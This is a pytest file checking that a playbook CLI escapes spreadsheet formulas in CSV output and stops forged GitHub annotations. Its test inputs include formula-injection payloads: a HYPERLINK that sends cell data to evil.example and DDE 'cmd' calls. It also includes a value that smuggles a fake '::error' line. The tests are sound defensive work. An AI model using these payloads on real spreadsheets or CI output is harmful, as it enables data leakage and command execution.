"""Every CSV a command writes is safe to open in a spreadsheet, and every GitHub annotation says what it
means to: the escaping lives in csv_output.py and annotations.py, used by each command (issue 23, #5)."""

from __future__ import annotations

import csv
import io
import re
import textwrap
from pathlib import Path

import pytest

from conftest import MINIMAL_PLAYBOOK, build_file_tree, run_cli
from test_health import AS_OF, our_csv, project_with  # noqa: F401 - project_with is a fixture

# A formula of each kind OWASP lists, as a team member's name in an owner field.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Sales Ops")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _project(tmp_path: Path, owner: str) -> Path:
    quoted = "'" + owner.replace("'", "''") + "'"
    stage = MINIMAL_PLAYBOOK["stages/01-first.yml"]
    return build_file_tree(tmp_path / "p", {**MINIMAL_PLAYBOOK,
                                            "stages/01-first.yml": stage.rstrip() + f"\n        owner: {quoted}\n"})


@pytest.mark.parametrize("owner", FORMULAS)
def test_review_csv_writes_a_formula_owner_as_text(tmp_path: Path, owner: str) -> None:
    result = run_cli("review", _project(tmp_path, owner), "--format", "csv", "--as-of", "2026-01-01")
    assert result.exit_code == 0, result.stderr
    first = next(row for row in _rows(result.stdout) if row["id"] == "first")
    assert first["owner"] == "'" + owner  # the apostrophe makes a spreadsheet show it as text
    assert first["line"] == "1"  # numbers stay numbers


def test_health_csv_writes_a_formula_stage_name_as_text(project_with) -> None:  # noqa: F811
    name = "=SUM(1+1)*cmd|' /C calc'!A0"  # no comma or quote: it goes into the deals file as it is
    deals = our_csv().replace("Stage B", name)
    root = project_with(deals, {"stages/2-b.yml": textwrap.dedent(f"""
        id: b
        name: "{name}"
        summary: Stage b.
        probability: 50
        max_days: 5
        exit_criteria: [Done]
    """)})
    result = run_cli("health", root, "--deals", root / "deals.csv", "--deals-format", "csv", "--as-of", AS_OF,
                     "--format", "csv")
    assert result.exit_code == 0, result.stderr
    row = next(r for r in _rows(result.stdout) if r["id"] == "b")
    assert row["name"] == "'" + name and row["reached"] == "4"


def test_export_csv_defuses_through_the_same_helper(tmp_path: Path) -> None:
    root = _project(tmp_path, "x")
    (root / "stages/01-first.yml").write_text(
        (root / "stages/01-first.yml").read_text(encoding="utf-8").replace("name: First", "name: '@cmd'"),
        encoding="utf-8")
    out = tmp_path / "stages.csv"
    assert run_cli("export", root, "--to", "csv", "-o", out).exit_code == 0
    rows = _rows(out.read_text(encoding="utf-8-sig"))
    assert rows[0]["name"] == "'@cmd" and rows[0]["probability"] == "10"


def _parse_annotation(line: str) -> tuple[str, dict[str, str], str]:
    """An annotation as GitHub reads it: the level, the properties split at commas, the message."""
    match = re.fullmatch(r"::(\w+)(?: ([^:]*))?::(.*)", line)
    assert match, line

    def unescape(text: str) -> str:
        for code, char in (("%0D", "\r"), ("%0A", "\n"), ("%3A", ":"), ("%2C", ","), ("%25", "%")):
            text = text.replace(code, char)
        return text

    props = dict(item.split("=", 1) for item in (match.group(2) or "").split(",") if item)
    return match.group(1), {key: unescape(value) for key, value in props.items()}, unescape(match.group(3))


def test_validate_github_escapes_a_file_name_with_colon_and_comma(make_project) -> None:
    root = make_project({"stages/03-a,b:c.yml": "id: third\nname: T\nsummary: t\nexit_criteria: [x]\n"})
    result = run_cli("validate", "--format", "github", root)
    (line,) = result.stdout.strip().splitlines()
    assert "file=stages/03-a%2Cb%3Ac.yml," in line
    level, props, message = _parse_annotation(line)
    assert (level, props["file"], props["line"], props["title"]) == ("warning", "stages/03-a,b:c.yml", "1",
                                                                       "stage-not-listed")
    assert message.startswith("stage 'third' is not listed")


def test_review_github_cannot_be_made_to_forge_a_second_annotation(tmp_path: Path) -> None:
    owner = "Ops%0A\n::error file=x::forged, 100%"
    root = _project(tmp_path, "placeholder")
    stage = root / "stages/01-first.yml"
    stage.write_text(stage.read_text(encoding="utf-8").replace("owner: 'placeholder'", 'owner: "Ops%0A\\n::error file=x::forged, 100%"'),
                     encoding="utf-8")
    result = run_cli("review", root, "--format", "github", "--as-of", "2026-01-01")
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert not any(line.startswith("::error") for line in lines)
    first = next(_parse_annotation(line) for line in lines if "stages/01-first.yml" in line)
    assert first[1]["file"] == "stages/01-first.yml" and first[1]["title"] == "review-never"
    assert first[2].endswith(owner)  # GitHub shows the owner exactly as written, newline and all
